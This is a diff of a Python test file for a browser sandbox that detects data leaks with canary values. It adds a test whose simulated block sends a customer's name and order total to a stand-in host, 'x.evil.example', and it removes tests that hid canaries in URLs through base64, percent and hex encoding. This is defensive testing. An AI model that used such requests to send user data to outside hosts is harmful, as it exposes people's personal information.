@@ -1,11 +1,7 @@
-"""The differential review's comparison and the canaries it varies (no browser: the engines'
-side is tests/browser/test_review_browser.py's corpus cases)."""
+"""The differential review's comparison (no browser: the engines' side is
+tests/browser/test_review_browser.py's corpus cases; the canaries it varies: test_review_canaries.py)."""
 
 from __future__ import annotations
-
-import base64
-import json
-import urllib.parse
 
 from flowui_sandbox.sandbox.review.browser.canaries import Canaries
 from flowui_sandbox.sandbox.review.browser.differential import MAX_EVENTS, Event, Log, baseline, confirmed, deviation, events
@@ -175,38 +171,6 @@ def test_a_log_is_cut_past_the_proxy_s_or_the_host_page_s_keep():
     assert log.cut == {"send"} and len(log.events) == 3 + MAX_ITEMS
 
 
-def test_canaries_look_like_data_vary_per_seed_and_repeat_with_it():
-    state = {"customer": {"name": "Ann Lee", "email": "ann@example.com", "age": 41}, "order": {"id": "A-10442"}}
-    paths = ["customer", "order.id", "order.total"]
-    one, two, again = Canaries("seed-1"), Canaries("seed-2"), Canaries("seed-1")
-    s1, s2, s3 = one.state(state, paths), two.state(state, paths), again.state(state, paths)
-    assert s1 == s3 and s1 != s2
-    for s in (s1, s2):
-        assert "@" in s["customer"]["email"] and " " in s["customer"]["name"]
-        assert isinstance(s["customer"]["age"], int) and 6 <= len(str(s["customer"]["age"])) <= 9
-        assert s["order"]["id"][1] == "-" and s["order"]["id"][0].isupper() and len(s["order"]["id"]) >= 8
-        assert not any(str(v).startswith("fxq") for v in (s["customer"]["name"], s["order"]["total"]))
-    # Over many seeds the numbers are not confined to the old 9-digit range.
-    sizes = {len(str(Canaries(f"s{i}").state(state, paths)["customer"]["age"])) for i in range(40)}
-    assert len(sizes) >= 3
-    # One input varied: only it takes the other seed's value.
-    varied = Canaries("seed-1", vary=frozenset({"order.id"}), alt_seed="seed-2").state(state, paths)
-    assert varied["order"]["id"] == s2["order"]["id"] and varied["customer"] == s1["customer"]
-
-
-def test_realistic_canaries_are_found_after_encoding():
-    canaries = Canaries()
-    state = canaries.state({"customer": {"name": "Ann Lee", "age": 41}}, ["customer", "order.total"])
-    encoded = base64.urlsafe_b64encode(json.dumps(state).encode()).decode()
-    found = canaries.find("https://x.example/?d=" + urllib.parse.quote(encoded))
-    assert set(found) == {"customer.name", "customer.age", "order.total"}
-    assert canaries.find("https://x.example/?u=" + urllib.parse.quote_plus(state["customer"]["name"].upper())) == {
-        "customer.name": "percent-encoded"}
-    assert canaries.find(f"https://x.example/?n=1{state['customer']['age']}") == {}  # a whole run of digits only
-    typed = canaries.typed("(typed into <input> #0 'q')")
-    assert canaries.find("https://k.example/?" + typed.encode().hex()) == {"(typed into <input> #0 'q')": "hex"}
-
-
 def test_image_answers_have_plausible_sizes():
     assert image_size("/brand/logo.png", "") != (1, 1)
     assert image_size("/i/200x50/banner.png", "") == (200, 50)
@@ -269,3 +233,33 @@ def test_an_unstable_block_s_review_keeps_what_the_user_did_in_both_same_data_ru
     assert outcome.as_dict()["unstable_actions"] == {
         "first": ["type <input> #0", "click <a> #2"],
         "then": ["type <input> #0", "click <a> #2 failed: the element is gone or has no box"]}
+
+
+def test_a_short_number_beside_a_named_canary_is_attributed_too(monkeypatch):
+    """A block sends its customer's name and the order's total (three digits, as real totals have)
+    in one request: the fast path names the name, not the total. The request is still the
+    differential review's, and its attribution runs name the total beside the name."""
+    import asyncio
+    import ssl
+
+    from flowui_sandbox.sandbox.engines import Engine
+    from flowui_sandbox.sandbox.review.browser.run import Lane, Recording
+
+    state = {"customer": {"name": "Ann Lee"}, "order": {"total": 125}}
+
+    def block(canaries: Canaries) -> Recording:  # what the block sends, from the data it is given
+        data = canaries.state(state, ["customer.name", "order.total"])
+        sent = Seen("https", "x.evil.example", "GET", "/p.gif", f"u={data['customer']['name']}&t={data['order']['total']}", {})
+        return Recording("chromium", canaries, seen=[sent], host={"status": "connected"}, actions=["click <button> #0"])
+
+    first = block(Canaries("a" * 16))
+    assert [e.host for e in first.unexplained()] == ["x.evil.example"]  # the name is found in it; the total is not
+    lane = Lane(Engine("chromium", "fake", None, "test"), ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER), time_limit=5)
+
+    async def review(work, page, tap, canaries, shots=True):
+        return block(canaries), True
+
+    monkeypatch.setattr(lane, "review", review)
+    outcome, keep = asyncio.run(lane.differ(None, None, None, first))
+    assert keep and [(leak.host, sorted(leak.inputs)) for leak in outcome.leaks] == [
+        ("x.evil.example", ["customer.name", "order.total"])]
